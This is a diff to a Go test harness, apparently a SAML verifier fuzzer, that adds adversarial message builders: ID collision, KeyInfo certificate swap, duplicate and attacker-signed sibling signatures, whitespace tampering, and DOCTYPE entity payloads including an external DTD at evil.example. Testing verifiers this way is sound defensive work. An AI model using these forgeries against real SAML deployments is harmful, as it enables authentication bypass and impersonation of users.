@@ -33,6 +33,7 @@ var AttackOps = []string{
 	"resign_attacker_key", "trusted_cert_foreign_key", "drop_keyinfo", "wrap", "splice", "duplicate_element",
 	"shadow_attribute", "comment_inject", "ns_rebind", "relocate_signature", "evil_sibling", "nest_in_response",
 	"attacker_encrypt", "cdata_inject", "swap_signature_values",
+	"root_id_collision", "keyinfo_swap", "duplicate_signature", "doctype_entity", "attacker_signed_sibling", "whitespace_in_signed",
 }
 
 func el(doc *etree.Document) *etree.Element { return doc.Root() }
@@ -668,6 +669,163 @@ func (ad *Adversary) Build(t *core.Tape, op string, hist []IssuedMsg) (*Attack, 
 		as[0].InsertChildAt(1, s1)
 		as[1].InsertChildAt(1, s0)
 		atk.XML, atk.Detail = docString(d), "signatures exchanged"
+		return atk, true
+
+	case "root_id_collision":
+		// the unsigned Response takes the ID of its signed assertion (the nested signature then
+		// "references the root" by ID); optionally with an evil sibling
+		m := pick("adv.msg", func(m *IssuedMsg) bool { return aSigned(m) && m.Logical.Sign == nil })
+		if m == nil {
+			return nil, false
+		}
+		d := parse(m)
+		root := el(d)
+		a := firstByTag(root, "Assertion")
+		root.CreateAttr("ID", a.SelectAttrValue("ID", ""))
+		if t.Bool("adv.collide.evil") {
+			ev, desc := evilCopy(a, 1, t)
+			root.InsertChildAt(a.Index(), ev)
+			atk.Detail = desc
+		}
+		atk.XML = docString(d)
+		return atk, true
+
+	case "keyinfo_swap":
+		// the certificate in KeyInfo replaced by another one (the attacker's)
+		m := pick("adv.msg", plainAssertions)
+		if m == nil {
+			return nil, false
+		}
+		d := parse(m)
+		n := 0
+		for _, c := range el(d).FindElements("//X509Certificate") {
+			c.SetText(B64(ad.Cert.DER))
+			n++
+		}
+		if n == 0 {
+			return nil, false
+		}
+		if t.Bool("adv.evilise") {
+			atk.Detail = evilise(firstByTag(el(d), "Assertion"), t)
+		}
+		atk.XML = docString(d)
+		return atk, true
+
+	case "duplicate_signature":
+		// two Signature children: the genuine one and an attacker's (either order), content edited
+		m := pick("adv.msg", aSigned)
+		if m == nil {
+			return nil, false
+		}
+		lm := *m.Logical
+		ca := *m.Logical.Assertions[0]
+		ca.NameID, ca.Sign, ca.Encrypt = sp("mallory"), PlainSigOpts(ad.KeyIdx, ad.Cert), nil
+		lm.Assertions = []*LAssertion{&ca}
+		lm.Sign = nil
+		scratch := &IdP{Name: "atk"}
+		x, err := scratch.Issue(&lm, m.Layout, 0)
+		if err != nil {
+			return nil, false
+		}
+		ed, err := parseDoc(x)
+		if err != nil {
+			return nil, false
+		}
+		evilA := firstByTag(el(ed), "Assertion")
+		d := parse(m)
+		genuineSig := firstByTag(firstByTag(el(d), "Assertion"), "Signature")
+		if evilA == nil || genuineSig == nil {
+			return nil, false
+		}
+		view, err := detachView(d, genuineSig)
+		if err != nil {
+			return nil, false
+		}
+		if t.Bool("adv.dupsig.first") {
+			evilA.InsertChildAt(1, view)
+		} else {
+			evilA.InsertChildAt(2, view)
+		}
+		root := el(d)
+		root.RemoveChild(firstByTag(root, "Assertion"))
+		removeSig(root)
+		ev, _ := detachView(ed, evilA)
+		root.AddChild(ev)
+		atk.XML, atk.Detail = docString(d), "attacker signature + genuine signature on evil content"
+		return atk, true
+
+	case "doctype_entity":
+		m := pick("adv.msg", plainAssertions)
+		if m == nil {
+			return nil, false
+		}
+		x := m.XML
+		if strings.HasPrefix(x, "<?xml") {
+			if i := strings.Index(x, "?>"); i > 0 {
+				x = x[i+2:]
+			}
+		}
+		mode := t.Int(3, "adv.doctype")
+		switch mode {
+		case 0:
+			x = `<!DOCTYPE r [<!ENTITY e "mallory">]>` + x
+		case 1:
+			x = `<!DOCTYPE r [<!ENTITY e "mallory">]>` + strings.Replace(x, ">alice<", ">&e;<", 1)
+		default:
+			x = `<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">` + x
+		}
+		atk.XML, atk.Detail = x, fmt.Sprintf("mode=%d", mode)
+		return atk, true
+
+	case "attacker_signed_sibling":
+		// an assertion validly signed by the attacker's own key beside the genuine signed one
+		m := pick("adv.msg", func(m *IssuedMsg) bool { return aSigned(m) && m.Logical.Sign == nil })
+		if m == nil {
+			return nil, false
+		}
+		lm := *m.Logical
+		ca := *m.Logical.Assertions[0]
+		ca.ID = "_atk" + fmt.Sprint(t.Int(9, "adv.id"))
+		ca.NameID, ca.Sign, ca.Encrypt = sp("mallory"), PlainSigOpts(ad.KeyIdx, ad.Cert), nil
+		lm.Assertions = []*LAssertion{&ca}
+		scratch := &IdP{Name: "atk"}
+		x, err := scratch.Issue(&lm, m.Layout, 0)
+		if err != nil {
+			return nil, false
+		}
+		ed, err := parseDoc(x)
+		if err != nil {
+			return nil, false
+		}
+		ev, err := detachView(ed, firstByTag(el(ed), "Assertion"))
+		if err != nil {
+			return nil, false
+		}
+		d := parse(m)
+		a := firstByTag(el(d), "Assertion")
+		if t.Bool("adv.first") {
+			el(d).InsertChildAt(a.Index(), ev)
+			atk.Detail = "attacker-signed first"
+		} else {
+			el(d).AddChild(ev)
+			atk.Detail = "attacker-signed last"
+		}
+		atk.XML = docString(d)
+		return atk, true
+
+	case "whitespace_in_signed":
+		// whitespace inserted into signed character data (changes the signed value)
+		m := pick("adv.msg", plainAssertions)
+		if m == nil {
+			return nil, false
+		}
+		d := parse(m)
+		n := descend(firstByTag(el(d), "Assertion"), "Subject", "NameID")
+		if n == nil {
+			return nil, false
+		}
+		n.SetText(n.Text() + []string{" ", "\n", "\t", "\u00a0"}[t.Int(4, "adv.ws")])
+		atk.XML = docString(d)
 		return atk, true
 
 	case "attacker_encrypt":
